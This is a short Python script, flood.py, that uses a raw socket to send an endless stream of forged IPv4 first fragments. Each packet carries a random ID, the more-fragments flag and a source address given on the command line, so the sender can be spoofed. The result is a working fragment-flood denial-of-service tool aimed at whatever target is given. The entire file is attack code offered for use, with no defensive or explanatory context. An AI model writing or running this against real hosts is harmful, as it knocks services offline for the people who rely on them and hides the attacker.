#!/usr/bin/env python3
"""Sends first fragments of new datagrams until it is killed: flood.py SRC DST"""

import random
import socket
import struct
import sys
import time

source, target = (socket.inet_aton(a) for a in sys.argv[1:3])
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    for _ in range(100):
        ident = random.randrange(1, 65536)
        packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 84, ident, 0x2000, 64, 17, 0, source, target) + bytes(64)
        sender.sendto(packet, (sys.argv[2], 0))
    time.sleep(0.005)
